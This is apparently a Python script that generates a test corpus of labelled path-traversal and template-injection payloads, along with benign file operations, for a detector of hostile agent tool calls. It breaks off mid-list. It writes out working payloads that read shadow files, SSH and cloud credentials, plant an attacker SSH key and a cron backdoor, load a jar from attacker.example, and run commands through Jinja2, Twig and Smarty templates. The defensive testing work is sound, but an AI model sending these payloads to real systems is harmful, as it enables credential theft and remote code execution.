#!/usr/bin/env python3
"""Generates the path-traversal and template-injection corpus files:

  tests/corpus/payloads/path.jsonl             attacks, family path_traversal   (path-a-NNN)
  tests/corpus/payloads/template.jsonl         attacks, family template_injection (tpl-a-NNN)
  tests/corpus/payloads/legit-files.jsonl      hard legit file operations        (files-l-NNN)
  tests/corpus/payloads/legit-templates.jsonl  hard legit templates              (tpl-l-NNN)

Techniques come from PayloadsAllTheThings (Directory Traversal, File Inclusion,
Server Side Template Injection, CVE Exploits/Log4Shell), SecLists
Fuzzing/LFI, OWASP WSTG-INPV-12/18 and public CVE write-ups; the payloads are
written here. Each entry: (technique, source, tool, payload-shape).

Run from the repository root: python3 tests/corpus/gen/pathtpl.py
"""

import base64
import html
import json
import os

OUT = os.path.join(os.path.dirname(__file__), "..", "payloads")

PAT = "PayloadsAllTheThings/Directory Traversal/README.md"
PAT_LFI = "PayloadsAllTheThings/File Inclusion/README.md"
PAT_WRAP = "PayloadsAllTheThings/File Inclusion/Wrappers.md"
SECLISTS_LFI = "SecLists/Fuzzing/LFI/LFI-Jhaddix.txt"
WSTG_PATH = "OWASP WSTG-ATHZ-01 (directory traversal file include)"
SSTI = "PayloadsAllTheThings/Server Side Template Injection/README.md"
SSTI_PY = "PayloadsAllTheThings/Server Side Template Injection/Python.md"
SSTI_JAVA = "PayloadsAllTheThings/Server Side Template Injection/Java.md"
SSTI_PHP = "PayloadsAllTheThings/Server Side Template Injection/PHP.md"
SSTI_JS = "PayloadsAllTheThings/Server Side Template Injection/JavaScript.md"
SSTI_RUBY = "PayloadsAllTheThings/Server Side Template Injection/Ruby.md"
SSTI_NET = "PayloadsAllTheThings/Server Side Template Injection/ASP.md"
LOG4J = "CVE-2021-44228 (Log4Shell); PayloadsAllTheThings/CVE Exploits/Log4Shell.md"
WSTG_SSTI = "OWASP WSTG-INPV-18 (server-side template injection)"


def call(name, args):
    """OpenAI-style function call: the arguments are a JSON document in a string."""
    return {"name": name, "arguments": json.dumps(args)}


def b64(s):
    return base64.b64encode(s.encode()).decode()


def entities(s):
    return "".join(f"&#{ord(c)};" if c in "./\\{}$%_" else c for c in s)


def fullwidth(s):
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E and c not in "abcdefghijklmnopqrstuvwxyz" else c for c in s)


def uescape(s):
    return "".join(f"\\u{ord(c):04x}" if c in "./\\{}$_" else c for c in s)


# --------------------------------------------------------------------------
# Path traversal attacks.
PATH_ATTACKS = [
    ("dot-dot-slash to passwd", PAT, "fs.read", {"path": "../../../etc/passwd"}),
    ("deep dot-dot to shadow", PAT, "fs.read", {"path": "../../../../../../etc/shadow"}),
    ("backslash traversal to win.ini", PAT, "fs.read", {"file": "..\\..\\..\\windows\\win.ini"}),
    ("backslash traversal to boot.ini", SECLISTS_LFI, "files.get", {"filename": "..\\..\\..\\..\\boot.ini"}),
    ("filter bypass ....//", PAT, "fs.read", {"path": "....//....//....//etc/passwd"}),
    ("filter bypass ..././", PAT, "docs.open", {"doc": "..././..././..././etc/passwd"}),
    ("percent-encoded slash", PAT, "http.get", {"url": "https://shop.example.com/download?file=..%2f..%2f..%2fetc%2fpasswd"}),
    ("fully percent-encoded dot-dot-slash", PAT, "fs.read", {"path": "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"}),
    ("double percent encoding", PAT, "fs.read", {"path": "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"}),
    ("overlong utf-8 dot", PAT, "media.thumbnail", {"image": "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}),
    ("overlong utf-8 slash", PAT, "fs.read", {"path": "..%c0%af..%c0%af..%c0%afetc/passwd"}),
    ("IIS %u encoding", PAT, "http.get", {"url": "http://intranet.example/scripts/%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215windows%u2215win.ini"}),
    ("encoded backslash to SAM", PAT, "fs.read", {"path": "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"}),
    ("traversal appended to expected dir", WSTG_PATH, "media.get", {"path": "/var/www/images/../../../etc/passwd"}),
    ("traversal from uploads to root ssh key", WSTG_PATH, "fs.read", {"path": "/var/www/html/uploads/../../../../root/.ssh/id_rsa"}),
    ("null byte extension bypass", PAT_LFI, "fs.read", {"path": "../../../etc/passwd%00.png"}),
    ("raw NUL byte truncation", PAT_LFI, "avatar.load", {"filename": "../../../../etc/passwd\u0000.jpg"}),
    ("absolute shadow read", SECLISTS_LFI, "fs.read", {"path": "/etc/shadow"}),
    ("proc environ absolute", SECLISTS_LFI, "fs.read", {"file": "/proc/self/environ"}),
    ("proc environ traversal", SECLISTS_LFI, "fs.read", {"path": "../../../../proc/self/environ"}),
    ("proc cmdline", SECLISTS_LFI, "fs.read", {"filepath": "/proc/self/cmdline"}),
    ("home ssh private key", "MITRE ATT&CK T1552.004", "fs.read", {"path": "~/.ssh/id_rsa"}),
    ("aws credentials file", "MITRE ATT&CK T1552.001", "fs.read", {"path": "~/.aws/credentials"}),
    ("aws credentials absolute", "MITRE ATT&CK T1552.001", "read_file", {"file_path": "/home/ubuntu/.aws/credentials"}),
    ("kubernetes service account token", "MITRE ATT&CK T1528", "fs.read", {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
    ("windows SAM hive", SECLISTS_LFI, "fs.read", {"path": "C:\\Windows\\System32\\config\\SAM"}),
    ("windows win.ini absolute", SECLISTS_LFI, "fs.read", {"path": "C:\\Windows\\win.ini"}),
    ("boot.ini forward slashes", SECLISTS_LFI, "fs.read", {"file": "c:/boot.ini"}),
    ("web.config traversal", PAT, "fs.read", {"path": "../../../../inetpub/wwwroot/web.config"}),
    ("dotenv traversal", PAT, "fs.read", {"path": "../../.env"}),
    ("git config traversal", PAT, "fs.read", {"path": "../../../.git/config"}),
    ("htpasswd traversal", SECLISTS_LFI, "fs.read", {"path": "../../../../../etc/apache2/.htpasswd"}),
    ("php filter base64 source read", PAT_WRAP, "cms.render", {"page": "php://filter/convert.base64-encode/resource=../../../config.php"}),
    ("php filter rot13", PAT_WRAP, "cms.render", {"page": "php://filter/read=string.rot13/resource=index.php"}),
    ("zip wrapper", PAT_WRAP, "cms.render", {"page": "zip://uploads/avatar.jpg%23shell.php"}),
    ("phar wrapper deserialization", PAT_WRAP, "image.info", {"path": "phar://./uploads/profile.jpg/x.php"}),
    ("expect wrapper", PAT_WRAP, "cms.render", {"include": "expect://id"}),
    ("php input wrapper", PAT_WRAP, "cms.render", {"page": "php://input"}),
    ("jar url remote archive", "Java jar: URL handler abuse", "java.loadResource", {"path": "jar:http://attacker.example/evil.jar!/payload.class"}),
    ("file url to passwd", PAT_LFI, "http.get", {"url": "file:///etc/passwd"}),
    ("file url localhost shadow", PAT_LFI, "browser.open", {"url": "file://localhost/etc/shadow"}),
    ("extended-length prefix to SAM", "Microsoft Win32 file namespaces (\\\\?\\)", "fs.read", {"path": "\\\\?\\C:\\Windows\\System32\\config\\SAM"}),
    ("UNC admin share", "Microsoft UNC paths", "fs.read", {"path": "\\\\localhost\\c$\\windows\\win.ini"}),
    ("tomcat path parameter ..;/", "Orange Tsai, Breaking Parser Logic (Black Hat 2018)", "http.get", {"url": "https://app.example.com/static/..;/..;/WEB-INF/web.xml"}),
    ("query parameter traversal", WSTG_PATH, "http.get", {"url": "http://app.internal/download?file=../../../../etc/passwd"}),
    ("encoded traversal in URL path", PAT, "http.fetch", {"url": "https://victim.example/static/..%2f..%2f..%2fetc/passwd"}),
    ("double-encoded slash", PAT, "fs.read", {"path": "..%252f..%252f..%252fetc%252fpasswd"}),
    ("very deep traversal to hosts", SECLISTS_LFI, "fs.read", {"path": "../../../../../../../../../../etc/hosts"}),
    ("doubled slashes", PAT, "fs.read", {"path": "..//..//..//etc//passwd"}),
    ("dot segments mixed in", PAT, "fs.read", {"path": "./../.././../etc/passwd"}),
    ("leading slash traversal", PAT, "fs.read", {"path": "/../../../../../../etc/passwd"}),
    ("log poisoning target", PAT_LFI, "cms.render", {"page": "../../../var/log/apache2/access.log"}),
    ("proc fd", SECLISTS_LFI, "fs.read", {"path": "../../../../proc/self/fd/3"}),
    ("mixed separators", PAT, "fs.read", {"path": "..\\/..\\/..\\/etc\\/passwd"}),
    ("mixed separators windows", PAT, "fs.read", {"path": "/..\\..\\..\\windows\\win.ini"}),
    ("base64 of traversal", "PayloadsAllTheThings (encoding)", "fs.read", {"data": b64("../../../etc/passwd")}),
    ("html entities", "OWASP encoding cheat sheet", "kb.fetch", {"value": entities("../../../etc/passwd")}),
    ("full-width dots and slashes", "Unicode normalization bypass (NFKC)", "fs.read", {"path": fullwidth("../../../") + "etc" + fullwidth("/") + "passwd"}),
    ("zero-width in dot-dot", "Unicode invisible characters", "fs.read", {"path": "..\u200b/..\u200b/..\u200b/etc/passwd"}),
    ("unicode escapes in embedded JSON", "JSON \\u escapes", "tools.call", {"name": "read_file", "arguments": '{"path": "' + uescape("../../../etc/shadow").replace("\\", "\\\\") + '"}'}),
    ("uppercase windows traversal", SECLISTS_LFI, "fs.read", {"path": "..\\..\\..\\WINDOWS\\WIN.INI"}),
    ("four-dot backslash bypass", PAT, "fs.read", {"path": "....\\\\....\\\\....\\\\windows\\\\win.ini"}),
    ("path parameter traversal", "Orange Tsai, Breaking Parser Logic", "fs.read", {"path": "..;/..;/..;/etc/passwd"}),
    ("static prefix deep traversal", WSTG_PATH, "assets.get", {"path": "/static/../../../../../../etc/passwd"}),
    ("relative dir deep traversal", WSTG_PATH, "media.get", {"path": "images/../../../../../../etc/shadow"}),
    ("encoded backslash dots", PAT, "fs.read", {"path": "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"}),
    ("IIS %u backslash", PAT, "fs.read", {"path": "..%u2216..%u2216..%u2216windows%u2216win.ini"}),
    ("three-byte overlong dot", PAT, "fs.read", {"path": "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"}),
    ("absolute passwd NUL", PAT_LFI, "cms.render", {"page": "/etc/passwd%00"}),
    ("gshadow", SECLISTS_LFI, "fs.read", {"path": "/etc/gshadow"}),
    ("sudoers", SECLISTS_LFI, "fs.read", {"path": "/etc/sudoers"}),
    ("root bash history", SECLISTS_LFI, "fs.read", {"path": "/root/.bash_history"}),
    ("kube config traversal", "MITRE ATT&CK T1552.001", "fs.read", {"path": "../../../../home/admin/.kube/config"}),
    ("docker registry auth", "MITRE ATT&CK T1552.001", "fs.read", {"path": "~/.docker/config.json"}),
    ("k8s token traversal", "MITRE ATT&CK T1528", "fs.read", {"path": "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"}),
    ("windows traversal from inetpub", WSTG_PATH, "fs.read", {"path": "C:/inetpub/wwwroot/../../Windows/System32/config/SAM"}),
    ("file url windows", PAT_LFI, "browser.open", {"url": "file:///C:/Windows/win.ini"}),
    ("filter bypass to authorized_keys", PAT, "fs.write", {"path": "....//....//....//....//root/.ssh/authorized_keys", "content": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@kali"}),
    ("traversal inside shell command", "OWASP WSTG-ATHZ-01", "shell.exec", {"cmd": "cat ../../../../etc/shadow"}),
    ("zip slip entry to cron", "Snyk Zip Slip (2018)", "archive.extract", {"archive": "update.zip", "entries": ["README.md", "../../../../../etc/cron.d/backdoor"]}),
    ("write ssh key via traversal", "Snyk Zip Slip (2018)", "fs.write", {"path": "../../../../root/.ssh/authorized_keys", "content": "ssh-rsa AAAAB3Nza... attacker"}),
    ("function call arguments traversal", PAT, "llm.tool", call("read_file", {"path": "../../../etc/passwd"})),
    ("page include parameter", PAT_LFI, "cms.render", {"page": "../../../../etc/passwd"}),
    ("template name traversal", PAT_LFI, "report.render", {"template": "../../../../../etc/passwd"}),
    ("proc 1 environ", SECLISTS_LFI, "fs.read", {"path": "/proc/1/environ"}),
    ("double-encoded backslash", PAT, "fs.read", {"path": "..%255c..%255c..%255cwindows%255cwin.ini"}),
    ("double-encoded NUL", PAT_LFI, "fs.read", {"path": "../../../etc/passwd%2500.jpg"}),
    ("backslash-led traversal", PAT, "fs.read", {"path": "\\..\\..\\..\\etc\\passwd"}),
    ("division slash confusable", "Unicode confusables (U+2215)", "fs.read", {"path": "..\u2215..\u2215..\u2215etc\u2215passwd"}),
    ("overlong two-byte backslash", PAT, "fs.read", {"path": "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"}),
    ("encoded segments in relative path", PAT, "fs.read", {"path": "static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"}),
    ("lang parameter traversal", PAT_LFI, "i18n.load", {"lang": "..%2f..%2f..%2f..%2fwindows/win.ini"}),
    ("page wrapper in query", PAT_WRAP, "http.get", {"url": "http://blog.example/index.php?page=php://filter/convert.base64-encode/resource=wp-config.php"}),
    ("traversal in CLI args array", WSTG_PATH, "proc.spawn", {"program": "convert", "args": ["--config", "../../../../etc/passwd", "out.png"]}),
    ("webshell write via attachment name", "OWASP Unrestricted File Upload", "email.save_attachments", {"attachments": [{"filename": "../../../../var/www/html/shell.php", "size": 311}]}),
    ("nested args object", PAT, "agent.run", {"args": {"options": {"input_file": "../../../../../etc/shadow"}}}),
    ("generic value field", SECLISTS_LFI, "kv.get", {"value": "../../../../../../etc/passwd"}),
    ("generic data field windows", SECLISTS_LFI, "kv.get", {"data": "..\\..\\..\\..\\..\\windows\\system32\\config\\sam"}),
    ("generic input field encoded", SECLISTS_LFI, "kv.get", {"input": "..%2F..%2F..%2F..%2Fetc%2Fshadow"}),
    ("q field traversal", SECLISTS_LFI, "search.files", {"q": "../../../../etc/passwd"}),
    ("base64 in embedded JSON args", "PayloadsAllTheThings (encoding)", "llm.tool", call("fs.read", {"path_b64": b64("../../../../root/.ssh/id_rsa")})),
    ("percent encoded then html", "OWASP encoding cheat sheet", "fs.read", {"path": html.escape("..%2F..%2F..%2Fetc%2Fpasswd").replace("%", "&#37;")}),
    ("full-width windows", "Unicode normalization bypass (NFKC)", "fs.read", {"path": fullwidth("..\\..\\..\\") + "windows" + fullwidth("\\") + "win.ini"}),
    ("id_rsa relative to home dir", "MITRE ATT&CK T1552.004", "fs.read", {"path": "/home/deploy/.ssh/id_ed25519"}),
    ("git-credentials", "MITRE ATT&CK T1552.001", "fs.read", {"path": "~/.git-credentials"}),
    ("netrc", "MITRE ATT&CK T1552.001", "fs.read", {"path": "/home/ci/.netrc"}),
    ("WEB-INF via encoded traversal", PAT, "http.get", {"url": "https://shop.example/app/%2e%2e/%2e%2e/WEB-INF/web.xml"}),
    ("SAM via repair folder", SECLISTS_LFI, "fs.read", {"path": "../../../../../../windows/repair/sam"}),
    ("apache log via deep traversal", PAT_LFI, "cms.render", {"page": "....//....//....//....//var/log/nginx/access.log"}),
    ("proc self root escape", SECLISTS_LFI, "fs.read", {"path": "/proc/self/root/etc/shadow"}),
    ("pgpass", "MITRE ATT&CK T1552.001", "fs.read", {"path": "/var/lib/postgresql/.pgpass"}),
    ("mixed case encoding", PAT, "fs.read", {"path": "%2E%2E%2F%2E%2E%2F%2E%2E%2FEtc%2FPasswd"}),
    ("upload dir escape via filename", "OWASP Unrestricted File Upload", "upload.save", {"filename": "..%2f..%2f..%2fvar%2fwww%2fhtml%2fcmd.php", "content_type": "image/png"}),
    ("download url param double-encoded", PAT, "http.get", {"url": "https://files.example.com/get?name=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"}),
    ("windows dot-space segment", "Windows path normalization (trailing dots and spaces)", "fs.read", {"path": "..\\.. \\..\\windows\\win.ini"}),
    ("hex escapes in value", "JavaScript \\x escapes", "kv.get", {"value": "\\x2e\\x2e\\x2f\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fpasswd"}),
    ("sensitive file in cp command", "GTFOBins", "shell.exec", {"command": "cp /etc/shadow /tmp/s && chmod 644 /tmp/s"}),
]

# --------------------------------------------------------------------------
# Hard legitimate file operations.
LEGIT_FILES = [
    ("monorepo sibling config", "fs.read", {"path": "../shared/config.yaml"}),
    ("monorepo package import", "fs.read", {"path": "../../packages/ui/src/Button.tsx"}),
    ("parent readme", "fs.read", {"path": "../README.md"}),
    ("dot segments that stay inside", "fs.read", {"path": "./src/../lib/mod.rs"}),
    ("up and back down in workspace", "fs.read", {"path": "apps/web/../../libs/auth/index.ts"}),
    ("windows project file", "fs.read", {"path": "C:\\Users\\dev\\source\\repos\\Shop\\Shop.csproj"}),
    ("windows program files", "fs.stat", {"path": "C:\\Program Files\\Git\\bin\\bash.exe"}),
    ("windows data drive", "fs.read", {"path": "D:\\data\\exports\\2024\\report.xlsx"}),
    ("UNC share finance file", "fs.read", {"path": "\\\\fileserver\\finance\\2024\\q3-forecast.xlsx"}),
    ("nginx access log tail", "logs.tail", {"path": "/var/log/nginx/access.log", "lines": 200}),
    ("syslog read", "fs.read", {"path": "/var/log/syslog"}),
    ("journal export", "fs.read", {"path": "/var/log/journal/export-2024-06-01.txt"}),
    ("hosts file edit by config tool", "fs.write", {"path": "/etc/hosts", "content": "127.0.0.1 localhost\n10.0.4.12 api.staging.internal\n"}),
    ("nginx config read", "fs.read", {"path": "/etc/nginx/nginx.conf"}),
    ("os-release", "fs.read", {"path": "/etc/os-release"}),
    ("resolv.conf", "fs.read", {"path": "/etc/resolv.conf"}),
    ("ssl ca bundle", "fs.read", {"path": "/etc/ssl/certs/ca-certificates.crt"}),
    ("kube manifest", "fs.read", {"path": "/etc/kubernetes/manifests/kube-apiserver.yaml"}),
    ("cpu info", "fs.read", {"path": "/proc/cpuinfo"}),
    ("meminfo", "fs.read", {"path": "/proc/meminfo"}),
    ("nic address", "fs.read", {"path": "/sys/class/net/eth0/address"}),
    ("venv python", "fs.stat", {"path": "/home/dev/project/.venv/bin/python"}),
    ("env example", "fs.read", {"path": ".env.example"}),
    ("dotenv development template", "fs.read", {"path": "config/.env.development"}),
    ("git config in repo", "fs.read", {"path": ".git/config"}),
    ("public key", "fs.read", {"path": "~/.ssh/id_rsa.pub"}),
    ("ssh client config", "fs.read", {"path": "~/.ssh/config"}),
    ("known hosts", "fs.read", {"path": "~/.ssh/known_hosts"}),
    ("aws cli config (no secrets)", "fs.read", {"path": "~/.aws/config"}),
    ("web.config in project", "fs.write", {"path": "src/Shop.Web/web.config", "content": "<configuration><system.webServer/></configuration>"}),
    ("iis site web.config", "fs.read", {"path": "C:\\inetpub\\wwwroot\\Shop\\web.config"}),
    ("windows relative build output", "fs.copy", {"src": "..\\..\\build\\Release\\app.dll", "dest": "bin\\app.dll"}),
    ("tsconfig base three levels up", "fs.read", {"path": "../../../tsconfig.base.json"}),
    ("cargo target dir", "fs.stat", {"path": "../target/debug/aigos"}),
    ("relative import in code", "code.apply_patch", {"patch": "--- a/app/views.py\n+++ b/app/views.py\n@@ -1,3 +1,3 @@\n-from .models import User\n+from ..models import User, Team\n"}),
    ("prose about moving files", "email.send", {"to": "team@example.com", "subject": "Docs moved", "body": "I moved the old specs to ../archive/2023 and updated the links in ../../docs/index.md. Ping me if anything 404s."}),
    ("percent-encoded spaces", "fs.read", {"path": "My%20Documents/Report%20(final).docx"}),
    ("github encoded repo path", "http.get", {"url": "https://api.github.com/repos/acme%2Fwidgets/contents/src"}),
    ("docs url with dot segments", "http.get", {"url": "https://docs.example.com/v2/../v1/reference/auth"}),
    ("stack trace with jar url", "ticket.comment", {"comment": "Startup fails: java.io.FileNotFoundException: jar:file:/opt/app/app.jar!/BOOT-INF/classes/application.yml (No such file or directory)"}),
    ("extended-length windows path", "fs.read", {"path": "\\\\?\\C:\\builds\\very\\long\\path\\artifact-0001.zip"}),
    ("file url local html", "browser.open", {"url": "file:///home/dev/project/coverage/index.html"}),
    ("kubelet config", "fs.read", {"path": "/var/lib/kubelet/config.yaml"}),
    ("apache error log", "logs.tail", {"path": "/var/log/apache2/error.log"}),
    ("tar archive to parent", "shell.exec", {"cmd": "tar -czf ../backup-2024-06-01.tgz --exclude=node_modules ."}),
    ("unzip into subdir", "shell.exec", {"cmd": "unzip -o release-1.4.2.zip -d ./dist && ls dist"}),
    ("archive entry list", "archive.create", {"archive": "site.zip", "entries": ["index.html", "assets/app.js", "assets/../favicon.ico"]}),
    ("settings in archive", "archive.read", {"archive": "backup.tar.gz", "entry": "app/config/settings.py"}),
    ("rsync deploy", "shell.exec", {"cmd": "rsync -av --delete ./dist/ ../deploy/current/"}),
    ("docker build parent context", "shell.exec", {"cmd": "docker build -f ../Dockerfile -t api:dev .."}),
    ("tsconfig extends", "fs.write", {"path": "packages/api/tsconfig.json", "content": "{\n  \"extends\": \"../../tsconfig.base.json\",\n  \"compilerOptions\": {\"outDir\": \"../../dist/api\"}\n}"}),
    ("git diff range", "shell.exec", {"cmd": "git diff main..feature/login -- src/ ../shared/"}),
    ("python relative data path", "code.run", {"code": "from pathlib import Path\nDATA = Path(__file__).parent / '..' / 'data' / 'cities.csv'\nprint(DATA.resolve())"}),
    ("cd up two levels", "shell.exec", {"cmd": "cd ../.. && make test"}),
    ("makefile include", "fs.read", {"path": "build/../Makefile"}),
    ("node require parent", "code.review", {"code": "const cfg = require('../../config/default.json');\nmodule.exports = cfg;"}),
    ("glob pattern", "fs.glob", {"pattern": "src/**/*.rs"}),
    ("s3 key with dates", "s3.get", {"bucket": "logs-prod", "key": "2024/06/01/app.log.gz"}),
    ("sshd config", "fs.read", {"path": "/etc/ssh/sshd_config"}),
    ("cron job file", "fs.write", {"path": "/etc/cron.d/logrotate-app", "content": "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.d/app\n"}),
    ("systemd unit", "fs.write", {"path": "/etc/systemd/system/api.service", "content": "[Service]\nExecStart=/opt/api/bin/api\n"}),
    ("docker socket", "fs.stat", {"path": "/var/run/docker.sock"}),
    ("helm chart relative dependency", "fs.read", {"path": "charts/api/../common/values.yaml"}),
    ("bazel workspace label", "shell.exec", {"cmd": "bazel build //services/api/...:all"}),
    ("rust range in code", "code.run", {"code": "for i in 0..10 { println!(\"{}\", &s[..i]); }"}),
    ("ellipsis path in docs", "docs.write", {"path": "docs/layout.md", "content": "The tree looks like `.../src/main.rs` and `.../tests/`."}),
    ("copy from sibling repo", "fs.copy", {"src": "../design-tokens/dist/tokens.css", "dest": "src/styles/tokens.css"}),
    ("pytest rootdir", "shell.exec", {"cmd": "pytest --rootdir=.. tests/unit -q"}),
    ("relative symlink", "shell.exec", {"cmd": "ln -sf ../../shared/.eslintrc.js .eslintrc.js"}),
    ("gitignore patterns", "fs.write", {"path": ".gitignore", "content": ".env\n.env.*\n!.env.example\nnode_modules/\n*.pem\n"}),
    ("dockerignore secrets", "fs.write", {"path": ".dockerignore", "content": ".git\n.env\n**/id_rsa\n"}),
    ("windows hosts read", "fs.read", {"path": "C:\\Windows\\System32\\drivers\\etc\\hosts"}),
    ("windows temp file", "fs.write", {"path": "C:\\Windows\\Temp\\install.log", "content": "ok"}),
    ("windows event log export", "fs.read", {"path": "C:\\Logs\\Application.evtx"}),
    ("function call relative read", "llm.tool", call("read_file", {"path": "../common/schema.graphql"})),
    ("nested args with parent dir", "agent.run", {"args": {"options": {"input_file": "../fixtures/orders.csv"}}}),
    ("url encoded query with path", "http.get", {"url": "https://grafana.example.com/d/abc?var-path=%2Fvar%2Flog%2Fapp&from=now-6h"}),
    ("path in q field", "search.files", {"q": "src/components/Header.vue"}),
    ("tmp download", "http.download", {"url": "https://releases.example.com/cli/v2.1.0/cli-linux-amd64.tar.gz", "dest": "/tmp/cli.tar.gz"}),
    ("node modules bin deep", "shell.exec", {"cmd": "../../node_modules/.bin/eslint --fix src"}),
    ("java classpath", "shell.exec", {"cmd": "java -cp ../lib/*:../conf com.acme.Main"}),
    ("sqlite db under var", "fs.stat", {"path": "/var/lib/grafana/grafana.db"}),
    ("percent-encoded url with dots in names", "http.get", {"url": "https://cdn.example.com/pkg/lodash%404.17.21/lodash.min.js"}),
    ("markdown write-up on traversal", "docs.write", {"path": "docs/security/traversal.md", "content": "## Path traversal\n\nA request such as `GET /download?file=../../../etc/passwd` must be rejected: the server resolves the path and checks it stays under `/srv/files`."}),
    ("proc self status for memory", "fs.read", {"path": "/proc/self/statm"}),
    ("archive listing with dirs", "archive.list", {"archive": "dist.tar", "prefix": "./"}),
    ("home relative project", "fs.read", {"path": "~/projects/api/Cargo.toml"}),
    ("windows relative with spaces", "fs.read", {"path": "..\\Shared Assets\\logo.png"}),
    ("powershell script path", "shell.exec", {"cmd": "powershell -File ..\\scripts\\deploy.ps1 -Env staging"}),
    ("maven relative parent pom", "fs.read", {"path": "../pom.xml"}),
    ("env var path", "fs.read", {"path": "$HOME/.config/app/settings.toml"}),
    ("log dir listing", "fs.list", {"dir": "/var/log/nginx/"}),
    ("id field with dots", "kv.get", {"value": "release..2024.06"}),
    ("two-level climb in value", "kv.get", {"value": "../../fixtures/users.json"}),
    ("wp plugin file", "fs.read", {"path": "wp-content/plugins/acme/acme.php"}),
    ("backup of settings", "fs.copy", {"src": "config/settings.py", "dest": "config/settings.py.bak"}),
]

# --------------------------------------------------------------------------
# Template injection attacks.
J_RCE = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"
TEMPLATE_ATTACKS = [
    ("jinja2 arithmetic probe", WSTG_SSTI, "profile.update", {"display_name": "{{7*7}}"}),
    ("jinja2 string multiplication probe", SSTI_PY, "profile.update", {"nickname": "{{7*'7'}}"}),
    ("generic ${} probe", SSTI, "comments.create", {"author": "${7*7}"}),
    ("ruby #{} probe", SSTI_RUBY, "profile.update", {"bio_title": "#{7*7}"}),
    ("erb probe", SSTI_RUBY, "profile.update", {"name": "<%= 7*7 %>"}),
    ("github-style ${{}} probe", SSTI, "tickets.create", {"title_value": "${{7*7}}"}),
    ("razor probe", SSTI_NET, "profile.update", {"name": "@(7*7)"}),
    ("thymeleaf inline probe", SSTI_JAVA, "profile.update", {"name": "[[${7*7}]]"}),
    ("jinja2 mro subclasses", SSTI_PY, "email.render", {"template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    ("jinja2 globals builtins import os", SSTI_PY, "email.render", {"template": J_RCE}),
    ("jinja2 cycler init globals", SSTI_PY, "report.render", {"template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
    ("jinja2 joiner", SSTI_PY, "report.render", {"template": "{{ joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"}),
    ("jinja2 namespace", SSTI_PY, "report.render", {"template": "{{ namespace.__init__.__globals__.os.popen('whoami').read() }}"}),
    ("jinja2 lipsum globals", SSTI_PY, "kv.set", {"value": "{{ lipsum.__globals__['os'].popen('id').read() }}"}),
    ("flask request.application", SSTI_PY, "kv.set", {"value": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"}),
    ("jinja2 template reference context", SSTI_PY, "kv.set", {"value": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"}),
    ("jinja2 attr filter with hex escapes", SSTI_PY, "kv.set", {"value": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f') }}"}),
    ("jinja2 string concat hiding dunder", SSTI_PY, "kv.set", {"value": "{{ ''['__cla'+'ss__']['__mr'+'o__'][1]['__subcla'+'sses__']() }}"}),
    ("jinja2 bracket access", SSTI_PY, "kv.set", {"data": "{{ ''[\"__class__\"][\"__base__\"][\"__subclasses__\"]() }}"}),
    ("jinja2 config leak", SSTI_PY, "profile.update", {"name": "{{ config }}"}),
    ("jinja2 config items", SSTI_PY, "profile.update", {"name": "{{ config.items() }}"}),
    ("jinja2 request args smuggling", SSTI_PY, "kv.set", {"value": "{{ ''|attr(request.args.c)|attr(request.args.m) }}"}),
    ("jinja2 statement block rce", SSTI_PY, "email.render", {"template": "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"}),
    ("jinja2 url_for globals", SSTI_PY, "kv.set", {"value": "{{ url_for.__globals__['current_app'].config }}"}),
    ("jinja2 get_flashed_messages globals", SSTI_PY, "kv.set", {"value": "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}"}),
    ("tornado import", SSTI_PY, "kv.set", {"value": "{% import os %}{{ os.popen('id').read() }}"}),
    ("mako code block", SSTI_PY, "report.render", {"template": "<% import os; x = os.popen('id').read() %>${x}"}),
    ("django debug settings leak", SSTI_PY, "profile.update", {"name": "{{ settings }}"}),
    ("twig filter callback", SSTI_PHP, "cms.render", {"body_tpl": "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"}),
    ("twig filter system", SSTI_PHP, "cms.render", {"value": "{{['id']|filter('system')}}"}),
    ("twig map passthru", SSTI_PHP, "cms.render", {"value": "{{['cat /etc/passwd']|map('passthru')|join}}"}),
    ("twig sort passthru", SSTI_PHP, "cms.render", {"value": "{{['id', '']|sort('passthru')}}"}),
    ("twig context dump", SSTI_PHP, "cms.render", {"value": "{{ _context }}"}),
    ("twig app server leak", SSTI_PHP, "cms.render", {"value": "{{ app.request.server.all|join(',') }}"}),
    ("smarty php tag", SSTI_PHP, "cms.render", {"value": "{php}echo `id`;{/php}"}),
    ("smarty system", SSTI_PHP, "cms.render", {"value": "{system('ls -la')}"}),
    ("smarty if system", SSTI_PHP, "cms.render", {"value": "{if system('cat /etc/passwd')}{/if}"}),
    ("smarty version probe", SSTI_PHP, "cms.render", {"value": "{$smarty.version}"}),
